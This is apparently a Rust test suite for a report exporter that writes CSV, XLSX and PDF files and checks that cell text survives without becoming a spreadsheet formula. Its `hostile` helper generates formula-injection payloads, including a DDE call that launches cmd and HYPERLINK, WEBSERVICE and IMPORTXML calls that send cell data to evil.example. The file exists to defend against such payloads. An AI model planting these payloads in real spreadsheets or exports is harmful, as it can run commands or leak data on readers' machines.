//! Files of reports as their readers find them: text and workbooks taken apart again, pages by `pdftotext`.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    reason = "a test that cannot go on has failed"
)]

use std::{
    io::{Cursor, Read as _, Write as _},
    process::{Command, Stdio},
};

use calamine::{Data, Reader as _, Xlsx};
use domain::{
    money::Money,
    report::{Cell, ColumnKind, Criteria, Format, ReportCode, SheetFault, SheetHead},
};

fn head(code: ReportCode, english: bool) -> SheetHead {
    let today = "2026-11-26".parse().unwrap();
    SheetHead {
        code,
        english,
        company: "Industrias Ñandú S.A.S.".to_owned(),
        product: "Tarjeta Nómina".to_owned(),
        criteria: code.report().check(Criteria::default(), today).unwrap(),
        user_name: None,
        made_at: "2026-11-26T15:04:05Z".parse().unwrap(),
    }
}

/// A row of a report with something in each of its cells.
fn row(code: ReportCode, text: &str) -> Vec<Cell> {
    let columns = code.report().columns.iter();
    columns
        .map(|column| match column.kind {
            ColumnKind::Text => Cell::Text(text.to_owned()),
            ColumnKind::Date => Cell::Date("2026-11-26".parse().unwrap()),
            ColumnKind::DateTime => Cell::DateTime("2026-11-26T03:30:00Z".parse().unwrap()),
            ColumnKind::Money => Cell::Money(Money::from_minor(123_456_789)),
            ColumnKind::Count => Cell::Count(1_234),
            ColumnKind::State => Cell::State(column.vocabulary.unwrap().codes()[0].to_owned()),
        })
        .collect()
}

fn totals(code: ReportCode, rows: i64) -> Vec<Cell> {
    let columns = code.report().columns.iter();
    columns
        .map(|column| match column.kind {
            ColumnKind::Money if column.is_totalled => {
                Cell::Money(Money::from_minor(123_456_789 * rows))
            }
            ColumnKind::Count if column.is_totalled => Cell::Count(1_234 * rows),
            _ => Cell::Empty,
        })
        .collect()
}

fn file(format: Format, head: SheetHead, pages: &[Vec<Vec<Cell>>], totals: &[Cell]) -> Vec<u8> {
    let mut sheet = documents::report::begin(format, head).unwrap();
    let mut bytes = Vec::new();
    for rows in pages {
        bytes.extend(sheet.rows(rows).unwrap());
    }
    sheet.end(totals).unwrap().read_to_end(&mut bytes).unwrap();
    bytes
}

fn book(bytes: Vec<u8>) -> Xlsx<Cursor<Vec<u8>>> {
    Xlsx::new(Cursor::new(bytes)).unwrap()
}

/// The pages as text.
fn paper(bytes: Vec<u8>) -> Vec<String> {
    let mut reader = Command::new("pdftotext")
        .args(["-layout", "-enc", "UTF-8", "-", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("pdftotext of poppler-utils is installed");
    let mut input = reader.stdin.take().unwrap();
    let writing = std::thread::spawn(move || input.write_all(&bytes));
    let output = reader.wait_with_output().unwrap();
    writing.join().unwrap().unwrap();
    let text = String::from_utf8(output.stdout).unwrap();
    let pages = text.trim_end_matches('\u{c}').split('\u{c}');
    pages.map(str::to_owned).collect()
}

/// Texts that a spreadsheet has been known to run, or to take for the beginning of what it runs.
fn hostile(count: usize) -> Vec<String> {
    let signs = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "|",
        "%",
        "＝",
        "＋",
        "－",
        "＠",
        "−",
        "\u{200b}=",
        "\u{feff}=",
        "\u{7}=",
        "\u{a0}=",
        "'=",
        "\"=",
        ";=",
        ",=",
        "\",=",
    ];
    let tails = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"https://evil.example/?\"&A1,\"ver\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "WEBSERVICE(\"https://evil.example\")",
        "IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
        "SUM(1;2)\r\n=1",
        "<f>1+1</f>",
        "]]></t></is></c><c><f>1+1</f></c>",
    ];
    (0..count)
        .map(|n| {
            let sign = signs[n % signs.len()];
            let tail = tails[n / signs.len() % tails.len()];
            format!("{sign}{tail} {n}")
        })
        .collect()
}

fn hostile_rows(texts: &[String]) -> Vec<Vec<Cell>> {
    let of = |text: &String| row(ReportCode::Recharges, text);
    texts.iter().map(of).collect()
}

#[test]
fn text_is_read_back_cell_by_cell_and_nothing_begins_as_a_formula() {
    let texts = hostile(10_000);
    let rows = hostile_rows(&texts);
    let code = ReportCode::Recharges;
    let pages: Vec<_> = rows.chunks(1_000).map(<[_]>::to_vec).collect();
    let bytes = file(
        Format::Csv,
        head(code, false),
        &pages,
        &totals(code, 10_000),
    );
    let text = String::from_utf8(bytes).unwrap();
    let lines = parsed(text.strip_prefix('\u{feff}').unwrap());
    assert_eq!(lines.len(), 10_002);
    let columns = code.report().columns;
    let holder = columns
        .iter()
        .position(|column| column.key == "holder")
        .unwrap();
    assert_eq!(lines[0][holder], "Tarjetahabiente");
    for (line, wanted) in lines[1..].iter().zip(&texts) {
        assert_eq!(line.len(), columns.len());
        let cell = &line[holder];
        let bare = cell.strip_prefix('\'').unwrap_or(cell);
        assert!(bare == wanted || cell == wanted, "{cell:?} {wanted:?}");
        for cell in line {
            assert!(!domain::csv::may_run(cell), "{cell:?}");
        }
        assert_eq!(line[0], "2026-11-25 22:30:00");
        assert_eq!(line.last().unwrap(), "1234567.89");
    }
    assert_eq!(lines[10_001][0], "Total");
    assert_eq!(lines[10_001].last().unwrap(), "12345678900.00");
}

/// A reader of RFC 4180 that shares nothing with the writer.
fn parsed(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut quoted = false;
    let mut signs = text.chars().peekable();
    while let Some(sign) = signs.next() {
        match sign {
            '"' if quoted && signs.peek() == Some(&'"') => cell.extend(signs.next()),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {
                assert_eq!(signs.next(), Some('\n'));
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            other => cell.push(other),
        }
    }
    assert!(!quoted && cell.is_empty() && row.is_empty());
    rows
}

#[test]
fn text_comes_back_page_by_page() {
    let code = ReportCode::Batches;
    let mut sheet = documents::report::begin(Format::Csv, head(code, true)).unwrap();
    let first = sheet.rows(&[row(code, "a")]).unwrap();
    let second = sheet.rows(&[row(code, "b")]).unwrap();
    assert!(String::from_utf8(first).unwrap().ends_with("\r\n"));
    assert_eq!(String::from_utf8(second).unwrap().lines().count(), 1);
    let mut rest = Vec::new();
    let mut end = sheet.end(&vec![Cell::Empty; 3]).unwrap();
    assert_eq!(end.read_to_end(&mut rest).unwrap(), 0);
}

#[test]
fn a_workbook_has_typed_cells_and_no_formula_whatever_stands_in_them() {
    let texts = hostile(10_000);
    let rows = hostile_rows(&texts);
    let code = ReportCode::Recharges;
    let pages: Vec<_> = rows.chunks(5_000).map(<[_]>::to_vec).collect();
    let bytes = file(
        Format::Xlsx,
        head(code, false),
        &pages,
        &totals(code, 10_000),
    );
    let mut book = book(bytes);
    let names = book.sheet_names();
    assert_eq!(names, ["Reporte", "Criterios"]);
    for name in &names {
        assert_eq!(
            book.worksheet_formula(name).unwrap().used_cells().count(),
            0
        );
    }
    let cells = book.worksheet_range("Reporte").unwrap();
    assert_eq!(cells.height(), 10_002);
    let columns = code.report().columns;
    let holder = columns
        .iter()
        .position(|column| column.key == "holder")
        .unwrap();
    let money = columns.len() - 1;
    for (read, wanted) in cells.rows().skip(1).zip(&texts) {
        let Data::String(text) = &read[holder] else {
            panic!("{:?}", read[holder])
        };
        assert_eq!(plain(text), plain(wanted));
        assert_eq!(read[money], Data::Float(1_234_567.89));
        let Data::DateTime(at) = &read[0] else {
            panic!("{:?}", read[0])
        };
        assert!((at.as_f64() - 46_351.937_5).abs() < 1e-9, "{}", at.as_f64());
        assert_eq!(read[1], Data::String("Orden de servicio pagada".to_owned()));
    }
    let last = cells.rows().next_back().unwrap();
    assert_eq!(last[0], Data::String("Total".to_owned()));
    assert_eq!(last[money], Data::Float(12_345_678_900.0));
    let criteria = book.worksheet_range("Criterios").unwrap();
    let said: Vec<_> = criteria.rows().map(|row| row[1].to_string()).collect();
    assert!(
        said.contains(&"28/10/2026 a 26/11/2026".to_owned()),
        "{said:?}"
    );
}

/// XML knows one end of a line only.
fn plain(text: &str) -> String {
    text.replace("\r\n", "\n").replace('\r', "\n")
}

#[test]
fn a_workbook_refuses_more_rows_than_it_has() {
    let code = ReportCode::CardsByState;
    let mut sheet = documents::report::begin(Format::Xlsx, head(code, true)).unwrap();
    let rows = vec![Vec::new(); 1_048_575];
    assert_eq!(sheet.rows(&rows), Err(SheetFault::TooManyRows(1_048_574)));
    let mut sheet = documents::report::begin(Format::Pdf, head(code, true)).unwrap();
    let rows = vec![Vec::new(); 10_001];
    assert_eq!(sheet.rows(&rows), Err(SheetFault::TooManyRows(10_000)));
}

#[test]
fn every_report_can_be_written_in_every_format_and_language() {
    for code in ReportCode::ALL {
        for english in [false, true] {
            let rows = vec![vec![row(*code, "Peña Ruiz, Ana María"); 3]];
            let sums = totals(*code, 3);
            let name = code.report().name.of(english);
            let pages = paper(file(Format::Pdf, head(*code, english), &rows, &sums));
            assert_eq!(pages.len(), 1, "{code}");
            let page = if english {
                "Page 1 of 1"
            } else {
                "Página 1 de 1"
            };
            for wanted in [name, "Industrias Ñandú S.A.S.", "26/11/2026 10:04", page] {
                assert!(
                    pages[0].contains(wanted),
                    "{code}: {wanted} in\n{}",
                    pages[0]
                );
            }
            for cell in &sums {
                if let Cell::Money(amount) = cell {
                    assert!(
                        pages[0].contains(&amount.to_string()),
                        "{code}\n{}",
                        pages[0]
                    );
                }
            }
            let mut book = book(file(Format::Xlsx, head(*code, english), &rows, &sums));
            let name = if english { "Report" } else { "Reporte" };
            let cells = book.worksheet_range(name).unwrap();
            let heads: Vec<_> = cells
                .rows()
                .next()
                .unwrap()
                .iter()
                .map(ToString::to_string)
                .collect();
            let columns = code.report().columns.iter();
            let wanted: Vec<_> = columns.map(|column| column.head.of(english)).collect();
            assert_eq!(heads, wanted);
        }
    }
}

#[test]
fn pages_have_the_head_of_the_table_each_and_the_totals_at_the_end() {
    let code = ReportCode::Orders;
    let rows = vec![vec![row(code, "OS-2026-000123"); 200]];
    let pages = paper(file(
        Format::Pdf,
        head(code, false),
        &rows,
        &totals(code, 200),
    ));
    assert!(pages.len() > 2);
    for (page, number) in pages.iter().zip(1..) {
        for wanted in [
            "Retenciones",
            "OS-2026-",
            &format!("Página {number} de {}", pages.len()),
        ] {
            assert!(page.contains(wanted), "{wanted} in\n{page}");
        }
    }
    let rows: usize = pages
        .iter()
        .map(|page| page.matches("$ 1.234.567,89").count())
        .sum();
    let money = code
        .report()
        .columns
        .iter()
        .filter(|column| column.kind == ColumnKind::Money);
    assert_eq!(rows, 200 * money.count());
    let last = pages.last().unwrap();
    assert!(
        last.contains("$ 246.913.578") && last.contains("Total"),
        "{last}"
    );
    assert!(pages[0].contains("28/10/2026 a 26/11/2026") && pages[0].contains("200"));
}

#[test]
fn nothing_to_tell_is_told_too() {
    let code = ReportCode::Replacements;
    let none = vec![Cell::Empty; code.report().columns.len()];
    let text = file(Format::Csv, head(code, false), &[], &none);
    assert_eq!(String::from_utf8(text).unwrap().lines().count(), 1);
    assert_eq!(
        paper(file(Format::Pdf, head(code, false), &[], &none)).len(),
        1
    );
    let mut book = book(file(Format::Xlsx, head(code, false), &[], &none));
    assert_eq!(book.worksheet_range("Reporte").unwrap().height(), 1);
}
